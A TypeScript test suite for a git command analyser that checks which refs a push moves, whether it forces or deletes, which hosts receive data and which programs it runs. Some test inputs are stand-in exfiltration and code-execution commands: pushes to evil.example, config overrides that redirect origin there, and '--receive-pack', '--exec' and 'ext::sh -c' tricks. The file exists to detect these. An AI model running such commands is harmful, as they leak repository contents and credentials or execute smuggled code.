import { describe, expect, it } from 'vitest';
import { effectsOf, hosts, runs } from './git-read.ts';

const ref = (src: string | undefined, dst: string | undefined, more = {}) => ({
  ...(src === undefined ? {} : { src }),
  dst,
  force: false,
  delete: false,
  ...more,
});

describe('what a push moves', () => {
  it.each<[string, Record<string, unknown>]>([
    ['git push', { remote: 'origin', refs: [ref('HEAD', undefined)], onCurrent: true, force: 'no' }],
    ['git push origin', { remote: 'origin', refs: [ref('HEAD', undefined)], onCurrent: true }],
    ['git push -u origin HEAD', { refs: [ref('HEAD', undefined)], onCurrent: true, force: 'no' }],
    ['git push origin @', { refs: [ref('@', undefined)], onCurrent: true }],
    ['git push origin main', { refs: [ref('main', 'main')] }],
    ['git push origin -- main', { refs: [ref('main', 'main')] }],
    ['git push -- origin main', { remote: 'origin', refs: [ref('main', 'main')] }],
    ['git push origin heads/main', { refs: [ref('heads/main', 'refs/heads/main')] }],
    ['git push origin HEAD:main', { refs: [ref('HEAD', 'main')] }],
    ['git push origin HEAD:refs/heads/main', { refs: [ref('HEAD', 'refs/heads/main')] }],
    ['git push origin HEAD:heads/main', { refs: [ref('HEAD', 'refs/heads/main')] }],
    ['git push origin feature~1:main', { refs: [ref('feature~1', 'main')] }],
    ['git push origin a b:c', { refs: [ref('a', 'a'), ref('b', 'c')] }],
    ['git push origin +a:b', { refs: [ref('a', 'b', { force: true })], force: 'yes' }],
    ['git push origin +main', { refs: [ref('main', 'main', { force: true })], force: 'yes' }],
    ['git push origin :main', { refs: [ref(undefined, 'main', { delete: true })] }],
    ['git push origin --delete main', { refs: [ref(undefined, 'main', { delete: true })] }],
    [
      'git push -d origin heads/main x',
      {
        refs: [ref(undefined, 'refs/heads/main', { delete: true }), ref(undefined, 'x', { delete: true })],
      },
    ],
    ['git push --del origin main', { refs: [ref(undefined, 'main', { delete: true })] }],
    ['git push -f origin main', { refs: [ref('main', 'main', { force: true })], force: 'yes' }],
    ['git push -fu origin main', { force: 'yes' }],
    ['git push origin main --force', { force: 'yes' }],
    ['git push --force --no-force origin main', { force: 'no' }],
    ['git push --force-with-lease origin x', { refs: [ref('x', 'x')], force: 'lease' }],
    ['git push --force-with-lease=x:abc origin x', { refs: [ref('x', 'x')], force: 'lease' }],
    ['git push --force-with-lease --force origin x', { force: 'yes' }],
    ['git push --force-w --force-i origin x', { force: 'lease' }],
    ['git push --force-with-lease origin +x', { force: 'yes' }],
    ['git push --all origin', { remote: 'origin', allRefs: 'branches' }],
    ['git push --branches origin', { allRefs: 'branches' }],
    ['git push --al origin', { allRefs: 'branches' }],
    ['git push --mirror origin', { allRefs: 'mirror', force: 'yes' }],
    ['git push --tags', { allRefs: 'tags' }],
    ['git push origin main --tags', { refs: [ref('main', 'main')] }],
    ['git push origin --follow-tags feature', { refs: [ref('feature', 'feature')] }],
    ['git push origin :', { allRefs: 'branches' }],
    ['git push origin +:', { allRefs: 'branches', force: 'yes' }],
    ["git push origin 'refs/heads/*:refs/heads/*'", { allRefs: 'branches', refs: [{ dst: 'refs/heads/*' }] }],
    ["git push origin 'refs/*:refs/*'", { allRefs: 'mirror' }],
    ["git push origin 'refs/heads/f*:refs/heads/m*'", { refs: [ref('refs/heads/f*', 'refs/heads/m*')] }],
    ["git push --prune origin 'refs/heads/*'", { remote: 'origin' }],
    ['git push origin tag v1', { refs: [ref('refs/tags/v1', 'refs/tags/v1')] }],
    ['git push origin ^main feature', { refs: [ref('feature', 'feature')] }],
    ['git push -o ci.skip origin main', { remote: 'origin', refs: [ref('main', 'main')] }],
    ['git push --repo=fork', { remote: 'fork' }],
    ['git push https://git.example/o/r.git HEAD:main', { remote: 'https://git.example/o/r.git' }],
    ['git push origin HEAD:$B', { refs: [{ src: 'HEAD', dst: undefined }] }],
    ['git push origin $B:main', { refs: [{ dst: 'main', delete: false }] }],
    ['git push origin "$B":main', { refs: [{ dst: 'main' }] }],
    ['git push origin $B', { refs: [{ dst: undefined }] }],
    ['git push origin @{u}', { refs: [ref('@{u}', undefined)] }],
    ['git push --no-verify origin x', { skipsHooks: true }],
    ['git push --no-verif origin x', { skipsHooks: true }],
    ['git -C ../other push origin main', { repo: '../other', refs: [ref('main', 'main')] }],
    ['git -C /a -C b push origin main', { repo: '/a/b' }],
    ['git --git-dir=/a/b/.git push origin main', { repo: '/a/b' }],
    ['git --git-dir /a/b.git push origin main', { repo: '/a/b.git' }],
    ['GIT_DIR=/a/.git git push origin main', { repo: '/a' }],
    ['git-push origin HEAD:main', { refs: [ref('HEAD', 'main')] }],
    ['/usr/lib/git-core/git-push origin HEAD:main', { refs: [ref('HEAD', 'main')] }],
    ['git send-pack origin HEAD:refs/heads/main', { refs: [ref('HEAD', 'refs/heads/main')] }],
    ['git send-pack --force origin a:b', { force: 'yes' }],
    ['git send-pack --all origin', { allRefs: 'branches' }],
    ['git http-push https://git.example/r a:b', { refs: [ref('a', 'b')] }],
    ['git subtree push --prefix=d origin main', { remote: 'origin', refs: [ref('main', 'main')] }],
  ])('%s', (line, expected) => {
    expect(effectsOf('git', line)).toMatchObject([{ op: 'push', ...expected }]);
  });

  it('keeps to the branch without force or destination', () => {
    const [push] = effectsOf('git', 'git push --force-with-lease origin x');
    expect(push).toEqual({
      kind: 'git',
      op: 'push',
      remote: 'origin',
      force: 'lease',
      refs: [{ src: 'x', dst: 'x', force: false, delete: false }],
    });
  });
});

describe('what the configuration makes of a push', () => {
  it.each<[string, Record<string, unknown>]>([
    ['git -c push.default=upstream push', { refs: [ref('HEAD', 'refs/heads/main')] }],
    ['git -c push.default=tracking push origin feature', { refs: [ref('feature', 'refs/heads/main')] }],
    ['git -c push.default=matching push', { allRefs: 'branches' }],
    ['git -c push.default=current push', { refs: [ref('HEAD', undefined)], onCurrent: true }],
    ['git -c push.default=nothing push', { remote: 'origin' }],
    ['git -c remote.origin.push=HEAD:main push', { refs: [ref('HEAD', 'main')] }],
    [
      'git -c remote.origin.push=+refs/heads/feature:refs/heads/main push origin feature',
      {
        refs: [ref('refs/heads/feature', 'refs/heads/main', { force: true })],
        force: 'yes',
      },
    ],
    [
      "git -c 'remote.origin.push=refs/heads/*:refs/heads/wip/*' push origin feature",
      {
        refs: [ref('feature', 'refs/heads/wip/feature')],
      },
    ],
    ['git -c remote.origin.mirror=true push', { allRefs: 'mirror', force: 'yes' }],
    ['git -c branch.feature.pushRemote=fork push', { remote: 'fork' }],
    ['git -c remote.pushDefault=fork push', { remote: 'fork' }],
    [
      'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=push.default GIT_CONFIG_VALUE_0=matching git push',
      {
        allRefs: 'branches',
      },
    ],
  ])('%s', (line, expected) => {
    expect(effectsOf('git', line)).toMatchObject([{ op: 'push', ...expected }]);
  });
});

describe('where a push goes', () => {
  it.each<[string, readonly string[]]>([
    ['git push', ['upload git.example']],
    ['git push fork x', ['upload fork.example']],
    ['git push two x', ['upload push.example']],
    ['git push https://token@evil.example/r.git x', ['upload evil.example']],
    ['git push git@evil.example:r.git x', ['upload evil.example']],
    ['git push evil.example:r.git x', ['upload evil.example']],
    ['git push [evil.example:2222]:r.git x', ['upload evil.example']],
    ['git push gh:o/r x', ['upload mirror.example']],
    ['git -c url.https://evil.example/.insteadOf=https://git.example/ push', ['upload evil.example']],
    ['git -c url.https://evil.example/.pushInsteadOf=https://git.example/ push', ['upload evil.example']],
    ['git -c remote.origin.pushurl=https://evil.example/r push', ['upload evil.example']],
    ['git -c http.proxy=http://proxy.example:8080 push', ['upload git.example', 'connect proxy.example']],
    ['git push ../other.git x', []],
    ['git push /srv/other.git x', []],
    ['git push file:///srv/other.git x', []],
    ['git push ./a:b x', []],
    ['git push --dry-run origin main', ['connect git.example']],
    ['git push -n origin main', ['connect git.example']],
    ['git push $REMOTE x', ['upload undefined']],
    ['git -C /elsewhere push origin x', []],
    ['git send-pack git@evil.example:r.git a:b', ['upload evil.example']],
    ['git lfs push origin main', ['upload git.example']],
  ])('%s', (line, expected) => {
    expect(hosts(line)).toEqual(expected);
  });

  it('moves nothing in a dry run', () => {
    expect(effectsOf('git', 'git push -fn origin main')).toEqual([]);
    expect(effectsOf('git', 'git push --dry-run --mirror origin')).toEqual([]);
  });

  it('runs the program for the other side', () => {
    expect(runs("git push --receive-pack='touch x' ../other a")).toMatchObject([{ code: 'touch x' }]);
    expect(runs("git push --exec='touch x' ../other a")).toMatchObject([{ code: 'touch x' }]);
    expect(runs("git push 'ext::sh -c touch% x' a")).toMatchObject([{ argv: ['sh', '-c', 'touch x'] }]);
    expect(runs('git push evil::address a')).toMatchObject([{ argv: ['git-remote-evil', 'address'] }]);
  });
});
